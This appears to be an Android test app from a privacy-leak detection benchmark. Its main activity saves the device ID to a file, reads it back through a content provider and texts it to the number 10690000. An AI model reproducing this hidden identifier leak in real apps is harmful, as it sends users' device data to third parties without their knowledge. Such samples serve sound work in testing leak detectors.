package cn.privlens.suite.provider_opens_other_file;

import android.app.Activity;
import android.net.Uri;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.io.BufferedReader;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;

public class Main extends Activity {
    private void write(String name, String text) throws IOException {
        FileOutputStream out = openFileOutput(name, MODE_PRIVATE);
        out.write(text.getBytes());
        out.close();
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            write("id.txt", Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID));
            write("help.txt", "help");
            InputStream in = getContentResolver().openInputStream(Uri.parse("content://cn.privlens.suite.provider_opens_other_file.files/one"));
            BufferedReader reader = new BufferedReader(new InputStreamReader(in));
            SmsManager.getDefault().sendTextMessage("10690000", null, reader.readLine(), null, null);
            reader.close();
        } catch (IOException e) {
            setTitle("e");
        }
    }
}
